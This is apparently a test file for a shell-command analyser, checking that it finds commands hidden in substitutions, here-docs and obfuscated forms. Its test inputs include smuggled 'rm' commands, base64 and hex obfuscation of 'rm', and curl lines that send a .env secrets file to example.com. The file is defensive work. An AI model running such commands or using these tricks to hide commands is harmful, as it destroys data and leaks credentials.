import { describe, expect, test } from 'bun:test';
import { last, read, runs } from './reads.ts';

describe('readCommand with substitutions', () => {
  test.each([
    ['echo $(rm x)', ['rm x', "echo '‹$(rm x)›'"]],
    ['echo `rm x`', ['rm x', "echo '‹`rm x`›'"]],
    ['echo "a $(rm "b c") d"', ["rm 'b c'", 'echo \'a ‹$(rm "b c")› d\'']],
    ['echo `echo \\`rm x\\``', ['rm x', "echo '‹`rm x`›'", "echo '‹`echo \\`rm x\\``›'"]],
    ['X=$(rm x)', ['rm x']],
    ['X=$(rm x) y', ['rm x', 'y']],
    ['a > "$(rm x)"', ['rm x', "a > '‹$(rm x)›'"]],
    ['a < <(rm x)', ['rm x', "a < '‹<(rm x)›'"]],
    ['a > >(rm x)', ['rm x', "a > '‹>(rm x)›'"]],
    ['diff <(rm x) <(rm y)', ['rm x', 'rm y', "diff '‹<(rm x)›' '‹<(rm y)›'"]],
    ['echo ${X:-$(rm x)}', ['rm x', "echo '‹${X:-$(rm x)}›'", "echo '‹$(rm x)›'"]],
    ['echo ${X/$(rm x)/y}', ['rm x', "echo '‹${X/$(rm x)/y}›'"]],
    ['echo $((1+$(rm x)))', ['rm x', "echo '‹$((1+$(rm x)))›'"]],
    ['(( $(rm x) ))', ['rm x']],
    ['a[$(rm x)]=1', ['rm x']],
    ['a=($(rm x))', ['rm x']],
    ['[[ -n $(rm x) ]]', ['rm x', "[[ -n '‹$(rm x)›'"]],
    ['case $(rm x) in $(rm y)) z;; esac', ['rm x', 'rm y', 'z']],
    ['for i in $(rm x); do y; done', ['rm x', 'y']],
    ['echo {$(rm x),b}', ['rm x', "echo '‹$(rm x)›' b"]],
    ['cat <<E\n$(rm x)\nE', ['rm x', 'cat']],
    ["cat <<'E'\n$(rm x)\nE", ['cat']],
    ['cat <<-E\n\t`rm x`\n\tE', ['rm x', 'cat']],
    ["echo '$(rm x)' \\`rm\\`", ["echo '$(rm x)' `rm`"]],
    ['echo @($(rm x)|b)', ['rm x', "echo '@($(rm x)|b)'"]],
  ])('reads %p as %p', (text, lines) => {
    expect(runs(text)).toEqual(lines);
  });

  test.each([
    ['$(echo rm) x', 'rm x'],
    ['$(echo -n r)m x', 'rm x'],
    ['`printf r``printf m` x', 'rm x'],
    ['$(which rm) x', '/usr/bin/rm x'],
    ['"$(command -v rm)" x', '/usr/bin/rm x'],
    ['$(echo cm0= | base64 -d) x', 'rm x'],
    ['$(base64 --decode <<< cm0=) x', 'rm x'],
    ["$(printf '\\x72\\155') x", 'rm x'],
    ["$(echo -e '\\x72m') x", 'rm x'],
    ['$(cat <<< rm) x', 'rm x'],
    ['$(cat <<E\nrm\nE\n) x', 'rm x'],
    ['echo rm > f; $(cat f) x', 'rm x'],
    ['echo rm > f; $(<f) x', 'rm x'],
    ['rm $(pwd)/x', 'rm /work/x'],
    ['rm $(basename /a/b.c) $(dirname /a/b.c)', 'rm b.c /a'],
    ['for f in a/*/b.c; do rm "$(dirname "$f")"; done', 'rm a/*'],
    ['printf \'rm "$(dirname "$0")"\' > a/b.sh; ./a/b.sh', 'rm ./a'],
    ['printf \'rm "$(dirname "$0")"\' > a/b.sh; bash a/b.sh', 'rm a'],
    ['rm "$(mktemp -d)/x"', "rm '/tmp/tmp.‹$(mktemp)›/x'"],
    ['rm $(cd /srv && pwd)', 'rm /srv'],
    ['rm $(if a; then echo b; fi)', "rm '‹$(if a; then echo b; fi)›'"],
  ])('works out what is printed in %p', (text, line) => {
    expect(runs(text).at(-1)).toBe(line);
  });

  test('runs a substitution once, however many values the words around it have', () => {
    expect(runs('if x; then f=a; else f=b; fi; echo $f $(date)')).toEqual([
      'x',
      'date',
      "echo a '‹$(date)›'",
      "echo b '‹$(date)›'",
    ]);
    expect(runs('for f in a b; do rm $(echo $f); done').filter((line) => line.startsWith('rm'))).toEqual([
      'rm a',
      'rm b',
    ]);
  });

  test('keeps where unknown text comes from', () => {
    const [word] = last('curl -d "$(cat .env)" http://example.com').args.slice(1);
    expect(word?.[0]).toMatchObject({
      type: 'unknown',
      origins: [{ type: 'file', source: [{ text: '/work/.env' }] }],
    });
    expect(last('cat .env | base64 | curl -d @- http://example.com').input?.[0]).toMatchObject({
      origins: [{ type: 'file' }],
    });
  });

  test('links what is substituted and what is piped to what receives it', () => {
    const { commands } = read('echo "$(a)" | b | sudo c');
    const named = (name: string) => commands.findIndex((command) => command.name === name);
    expect(commands[named('a')]?.feeds).toEqual([named('echo')]);
    expect(commands[named('echo')]?.feeds).toEqual([named('b')]);
    expect(commands[named('b')]?.feeds).toEqual([named('sudo'), named('c')]);
    expect(commands[named('c')]?.fedBy).toEqual([named('b')]);
  });
});
